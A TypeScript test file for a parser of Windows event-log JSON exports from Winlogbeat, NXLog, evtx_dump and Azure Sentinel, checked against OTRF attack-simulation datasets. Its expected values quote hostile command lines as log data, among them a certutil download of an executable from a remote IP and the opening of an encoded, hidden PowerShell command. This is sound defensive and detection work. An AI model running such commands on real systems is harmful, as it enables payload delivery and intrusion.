import { existsSync, readFileSync } from 'node:fs'
import { dirname, join, resolve } from 'node:path'
import { fileURLToPath } from 'node:url'
import { inflateRawSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import type { Sample } from './types'
import { parseWindowsJson, sniffWindowsJson, windowsJsonParser } from './windows-json'

const here = dirname(fileURLToPath(import.meta.url))
const fixtures = join(here, 'fixtures', 'windows-json')

function fixture(name: string): string {
  return readFileSync(join(fixtures, name), 'utf8')
}

function sample(text: string, name = 'events.json'): Sample {
  return { name, head: new TextEncoder().encode(text), lines: text.split('\n').slice(0, 200) }
}

describe('parseWindowsJson on each export shape', () => {
  it('Winlogbeat: winlog.event_data, @timestamp, keywords as names', () => {
    expect(parseWindowsJson(fixture('winlogbeat-4625.json'))).toEqual({
      ts: Date.UTC(2024, 4, 2, 9, 30, 0, 123), user: 'alice', host: 'DC01.corp.example', srcIp: '192.0.2.44', dstIp: null,
      category: 'authentication', action: 'logon_failed', outcome: 'failure', object: null, bytes: null, amount: null,
      attrs: {
        eventId: 4625, recordId: 981234, channel: 'Security', logonType: 3, workstation: 'KALI', srcPort: 0,
        authPackage: 'NTLM', status: '0xc000006d', subStatus: '0xc000006a', failureReason: '%%2313', rawUser: 'CORP\\alice',
      },
    })
  })

  it('Winlogbeat Sysmon 1 and a flattened (dotted keys) Winlogbeat 4688', () => {
    expect(parseWindowsJson(fixture('winlogbeat-sysmon-1.json'))).toMatchObject({
      ts: Date.UTC(2024, 4, 2, 10, 1, 2, 345), user: 'bob', host: 'WS07.corp.example', action: 'process_start',
      object: 'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe',
      attrs: { eventId: 1, recordId: 55012, image: 'C:\\Windows\\System32\\certutil.exe', parent: 'C:\\Windows\\System32\\cmd.exe', hashes: 'SHA256=2E9A6A8B1F0C4D3E2B1A09F8E7D6C5B4A392817F6E5D4C3B2A19080706050403' },
    })
    expect(parseWindowsJson(fixture('winlogbeat-dotted-4688.json'))).toMatchObject({
      ts: Date.UTC(2024, 4, 2, 11, 15, 30), user: 'bob', host: 'WS01.corp.example', action: 'process_start', outcome: 'success',
      object: 'whoami /all', attrs: { image: 'C:\\Windows\\System32\\whoami.exe', processId: 0x1f08, recordId: 7781 },
    })
  })

  it('Winlogbeat without event_data: the user from user.name, not where the record names its accounts', () => {
    const special = '{"@timestamp":"2024-02-19T12:59:32.877+01:00","event":{"code":"4672","action":"logged-in-special","outcome":"success"},"winlog":{"channel":"Security","event_id":"4672","provider_name":"Microsoft-Windows-Security-Auditing","computer_name":"SQL01.corp.example.com"},"user":{"name":"fwilliams","domain":"CORP"}}'
    expect(parseWindowsJson(special)).toMatchObject({ user: 'fwilliams', action: 'privilege_use', host: 'SQL01.corp.example.com', attrs: { rawUser: 'CORP\\fwilliams' } })
    // With the account fields there, a machine account stays nobody, whatever user.name says.
    const machine = special.replace('"computer_name"', '"event_data":{"SubjectUserName":"SQL01$","SubjectDomainName":"CORP"},"computer_name"')
    expect(parseWindowsJson(machine)).toMatchObject({ user: null, action: 'privilege_use' })
  })

  it('Winlogbeat without provider or channel: a Security audit id, or event.provider, says Security', () => {
    const logon = { '@timestamp': '2024-03-04T09:15:00Z', winlog: { event_id: 4624, event_data: { LogonType: '3', TargetUserName: 'alice', TargetDomainName: 'CORP', IpAddress: '10.1.1.1' } }, host: { name: 'DC1' } }
    expect(parseWindowsJson(JSON.stringify(logon))).toMatchObject({ user: 'alice', action: 'logon', srcIp: '10.1.1.1', host: 'DC1' })
    expect(parseWindowsJson(JSON.stringify({ ...logon, event: { provider: 'Microsoft-Windows-Security-Auditing' } }))).toMatchObject({ user: 'alice', action: 'logon' })
    // Sysmon's ids are not Security's: without a provider, an id 1 stays a generic event.
    expect(parseWindowsJson(JSON.stringify({ ...logon, winlog: { event_id: 1, event_data: { CommandLine: 'whoami' } } }))).toMatchObject({ action: 'windows_event', object: 'unknown/1' })
  })

  it('evtx_dump JSON gives the same event as the .evtx record it came from', () => {
    expect(parseWindowsJson(fixture('evtx-dump-4624.json'))).toEqual({
      ts: Date.UTC(2019, 1, 13, 18, 2, 4, 426), user: 'user01', host: 'PC01.example.corp', srcIp: '127.0.0.1', dstIp: null,
      category: 'authentication', action: 'logon', outcome: 'success', object: null, bytes: null, amount: null,
      attrs: {
        eventId: 4624, recordId: 227701, channel: 'Security', logonType: 11, workstation: 'PC01',
        process: 'C:\\Windows\\System32\\winlogon.exe', srcPort: 0, logonId: '0x1414c8', authPackage: 'Negotiate',
        subject: 'EXAMPLE\\PC01$', rawUser: 'EXAMPLE\\user01',
      },
    })
  })

  it('OTRF/NXLog: EventTime placed in UTC by the receipt offset; machine accounts are no user', () => {
    expect(parseWindowsJson(fixture('nxlog-4624.json'))).toMatchObject({
      ts: Date.UTC(2020, 7, 7, 14, 32, 26), user: null, host: 'MORDORDC.theshire.local', srcIp: '::1', action: 'logon',
      outcome: 'success', attrs: { eventId: 4624, recordId: 765191, logonType: 3, srcPort: 54212, rawUser: 'THESHIRE.LOCAL\\MORDORDC$' },
    })
    expect(parseWindowsJson(fixture('nxlog-4648.json'))).toMatchObject({
      ts: Date.UTC(2020, 7, 6, 15, 56, 22), user: 'pgustavo', action: 'explicit_credentials', object: 'WORKSTATION6',
      attrs: { targetUser: 'THESHIRE.LOCAL\\pgustavo', targetServer: 'WORKSTATION6', process: 'C:\\Users\\pgustavo\\Desktop\\GruntHTTP.exe' },
    })
    expect(parseWindowsJson(fixture('nxlog-sysmon-3.json'))).toMatchObject({
      ts: Date.UTC(2020, 7, 7, 14, 32, 22, 751), user: 'pgustavo', srcIp: '172.18.39.5', dstIp: '10.10.10.5',
      action: 'network_connect', object: '10.10.10.5', attrs: { srcPort: 65372, dstPort: 80, protocol: 'tcp', initiated: true },
    })
  })

  it('OTRF newer export: zoned TimeCreated, Keywords as hex', () => {
    expect(parseWindowsJson(fixture('otrf-4625.json'))).toMatchObject({
      ts: Date.UTC(2022, 7, 18, 6, 56, 26, 233), user: 'pedro-admin', host: 'pedro-computer', srcIp: '::1',
      action: 'logon_failed', outcome: 'failure', attrs: { status: '0xc000010b', subStatus: '0x0', logonType: 11 },
    })
  })

  it('rejects a TimeCreated without zone (12-hour clock in this export) rather than guess', () => {
    expect(parseWindowsJson(fixture('otrf-unzoned-4688.json'))).toEqual({
      reject: 'no usable time: time without a zone (timecreated 2020-10-18 07:50:05.910)',
    })
  })

  it('Azure Sentinel: flat SecurityEvent, EventData as XML text, EventData as JSON text', () => {
    expect(parseWindowsJson(fixture('sentinel-4624.json'))).toMatchObject({
      ts: Date.UTC(2021, 7, 2, 13, 6, 38, 330), user: 'wardog', host: 'DC01.simulandlabs.com', srcIp: '192.168.2.5',
      action: 'logon', attrs: { logonType: 3, authPackage: 'Kerberos', rawUser: 'SIMULANDLABS.COM\\wardog' },
    })
    const fromXml = parseWindowsJson(fixture('sentinel-xml-4688.json'))
    expect(fromXml).toMatchObject({
      ts: Date.UTC(2022, 4, 13, 8, 54, 8, 420), user: 'local service', host: 'WORKSTATION5', action: 'process_start',
      attrs: {
        image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        parent: 'C:\\ProgramData\\chocolatey\\lib\\Tomcat\\tools\\apache-tomcat-9.0.62\\bin\\tomcat9.exe',
      },
    })
    expect((fromXml as { object: string }).object.startsWith('powershell.exe -NonI -W Hidden -NoP -Exec Bypass -Enc SQBmACgAJABQAFMA')).toBe(true)
    expect(parseWindowsJson(fixture('sentinel-json-sysmon-3.json'))).toMatchObject({
      ts: Date.UTC(2022, 4, 13, 8, 54, 6, 347), user: 'local service', srcIp: '192.168.3.5', dstIp: '192.168.2.5',
      action: 'network_connect', attrs: { dstPort: 8080, initiated: false },
    })
  })

  it('rejects what is not a Windows event, and skips blank records', () => {
    expect(parseWindowsJson('{"EventID": 4624')).toEqual({ reject: 'invalid JSON' })
    expect(parseWindowsJson('[1, 2]')).toEqual({ reject: 'not a JSON object' })
    expect(parseWindowsJson('{"@timestamp": "2024-01-01T00:00:00Z", "message": "hello"}')).toEqual({ reject: 'not a Windows event (no event id)' })
    expect(parseWindowsJson('{"EventID": "abc", "Channel": "Security"}')).toEqual({ reject: 'event id is not a number' })
    expect(parseWindowsJson('{"EventID": 4624, "Channel": "Security"}')).toEqual({ reject: 'no usable time: no time field' })
    expect(parseWindowsJson('  ')).toBeNull()
  })

  it('reads field names in any case and spelling (event_id, Provider_Name, computer_name)', () => {
    expect(parseWindowsJson('{"event_id": "4740", "provider_name": "Microsoft-Windows-Security-Auditing", "channel": "security", "computer_name": "DC02", "TimeCreated": "2024-01-01T00:00:00+01:00", "TargetUserName": "henry", "TargetDomainName": "WS12"}'))
      .toMatchObject({ ts: Date.UTC(2023, 11, 31, 23), user: 'henry', host: 'DC02', action: 'account_lockout', attrs: { callerComputer: 'WS12' } })
  })
})

describe('windowsJsonParser.sniff', () => {
  it('is sure (>= 0.9) of Windows exports, line by line or pretty-printed', () => {
    for (const name of ['winlogbeat-4625.json', 'nxlog-4624.json', 'otrf-4625.json', 'sentinel-4624.json', 'winlogbeat-dotted-4688.json']) {
      expect(sniffWindowsJson(sample(`${fixture(name).trim()}\n${fixture(name).trim()}\n`)), name).toBe(0.95)
    }
    expect(sniffWindowsJson(sample(fixture('evtx-dump-4624.json')))).toBe(0.9)
    expect(windowsJsonParser.sniff(sample(`[${fixture('winlogbeat-4625.json').trim()},\n${fixture('nxlog-4648.json').trim()}]`))).toBe(0.95)
  })

  it('stays at 0 for generic ECS JSON, other JSON and text', () => {
    const ecs = '{"@timestamp":"2024-05-02T09:30:00Z","event":{"category":["web"],"action":"http_request","outcome":"success"},"source":{"ip":"1.2.3.4"},"url":{"domain":"example.org"},"user":{"name":"alice"},"host":{"name":"proxy01"}}'
    expect(sniffWindowsJson(sample(`${ecs}\n${ecs}\n`))).toBe(0)
    expect(sniffWindowsJson(sample('{"eventVersion":"1.08","eventName":"GetObject","awsRegion":"us-east-1"}\n'))).toBe(0)
    expect(sniffWindowsJson(sample('May  2 09:30:00 host sshd[1]: Accepted password for alice\n'))).toBe(0)
    // An id alone is not enough: something must also say Windows (channel, provider, computer).
    expect(sniffWindowsJson(sample('{"EventID": 7, "value": 1}\n'))).toBe(0)
  })
})

// OTRF Security-Datasets: each recording zipped as one JSON-lines file.
const datasets = resolve(here, '..', '..', '..', '..', 'shared', 'data', 'otrf-security-datasets', 'datasets')
const available = existsSync(datasets)

/** The first entry of a zip, inflated (stored or deflate), read through the central directory. */
function unzipFirst(path: string): string {
  const zip = readFileSync(path)
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]))
  const central = zip.readUInt32LE(end + 16)
  const method = zip.readUInt16LE(central + 10)
  const compressedSize = zip.readUInt32LE(central + 20)
  const local = zip.readUInt32LE(central + 42)
  const dataStart = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28)
  const data = zip.subarray(dataStart, dataStart + compressedSize)
  return (method === 0 ? data : inflateRawSync(data)).toString('utf8')
}

function actionCounts(relative: string): Record<string, number> {
  const parser = windowsJsonParser.open({ name: relative, year: null, fileTime: null, timeZone: 'UTC' })
  const counts: Record<string, number> = {}
  let recordNo = 0
  for (const line of unzipFirst(join(datasets, relative)).split('\n')) {
    if (line.trim() === '') continue
    const outcome = parser.parse(line, ++recordNo)
    const key = outcome === null ? 'null' : 'reject' in outcome ? 'reject' : 'action' in outcome ? outcome.action : 'other'
    counts[key] = (counts[key] ?? 0) + 1
  }
  return counts
}

// Expected figures: EventID per provider counted with jq over the same files, then mapped by hand.
describe('windows-json on OTRF Security-Datasets', () => {
  it.skipIf(!available)('credential access: empire_mimikatz_logonpasswords, 6,026 events (needs ../shared/data)', () => {
    expect(actionCounts('atomic/windows/credential_access/host/empire_mimikatz_logonpasswords.zip')).toEqual({
      windows_event: 5888, network_connect: 90, privilege_use: 10, logon: 10, logoff: 10, file_create: 14, process_start: 2, dns_query: 1, share_access: 1,
    })
  })

  it.skipIf(!available)('lateral movement: covenant_psremoting_command, 4,284 events (needs ../shared/data)', () => {
    expect(actionCounts('atomic/windows/lateral_movement/host/covenant_psremoting_command.zip')).toEqual({
      windows_event: 4127, share_access: 5, privilege_use: 13, logon: 16, logoff: 14, network_connect: 55, process_start: 16, file_create: 23,
      file_delete: 6, dns_query: 2, explicit_credentials: 5, kerberos_tgt: 1, kerberos_service: 1,
    })
  })

  it.skipIf(!available)('defense evasion: auditpol_system_user_auditpolicy_modification, 13,645 events (needs ../shared/data)', () => {
    expect(actionCounts('atomic/windows/defense_evasion/host/auditpol_system_user_auditpolicy_modification.zip')).toEqual({
      windows_event: 13563, process_start: 39, logon: 4, privilege_use: 3, logon_failed: 1, credential_validation: 1,
      explicit_credentials: 1, logoff: 1, file_create: 14, file_delete: 13, dns_query: 2, network_connect: 2, log_cleared: 1,
    })
  })

  it.skipIf(!available)('psh_lsass_memory_dump_comsvcs: the 36 events with a zoneless TimeCreated are rejected (needs ../shared/data)', () => {
    expect(actionCounts('atomic/windows/credential_access/host/psh_lsass_memory_dump_comsvcs.zip')).toEqual({
      reject: 36, windows_event: 145, file_create: 2, process_start: 1,
    })
  })

  it.skipIf(!available)('Azure Sentinel exports: GoldenSAML WindowsEvents and Log4Shell (needs ../shared/data)', () => {
    expect(actionCounts('compound/GoldenSAMLADFSMailAccess/WindowsEvents.Zip')).toEqual({ logon: 28, windows_event: 10 })
    expect(actionCounts('compound/Log4Shell/sysmon_log4shell_cve2021_44228_java_serialized_object.zip')).toEqual({
      network_connect: 5, windows_event: 471, file_create: 4, dns_query: 2, file_delete: 3, process_start: 2,
    })
    expect(actionCounts('compound/Log4Shell/securityauditing_log4shell_cve2021_44228_java_serialized_object.zip')).toEqual({
      windows_event: 37, process_start: 2,
    })
  })

  it.skipIf(!available)('sniffs every Windows recording at >= 0.9 (needs ../shared/data)', () => {
    for (const relative of [
      'atomic/windows/credential_access/host/empire_mimikatz_logonpasswords.zip',
      'atomic/windows/discovery/host/cmd_seatbelt_group_user.zip',
      'compound/GoldenSAMLADFSMailAccess/WindowsEvents.Zip',
      'compound/Log4Shell/sysmon_log4shell_cve2021_44228_java_serialized_object.zip',
    ]) {
      const head = unzipFirst(join(datasets, relative)).slice(0, 65536)
      expect(sniffWindowsJson(sample(head, relative)), relative).toBeGreaterThanOrEqual(0.9)
    }
    const cloudTrail = unzipFirst(join(datasets, 'atomic/aws/collection/ec2_proxy_s3_exfiltration.zip')).slice(0, 65536)
    expect(sniffWindowsJson(sample(cloudTrail))).toBe(0)
  })
})
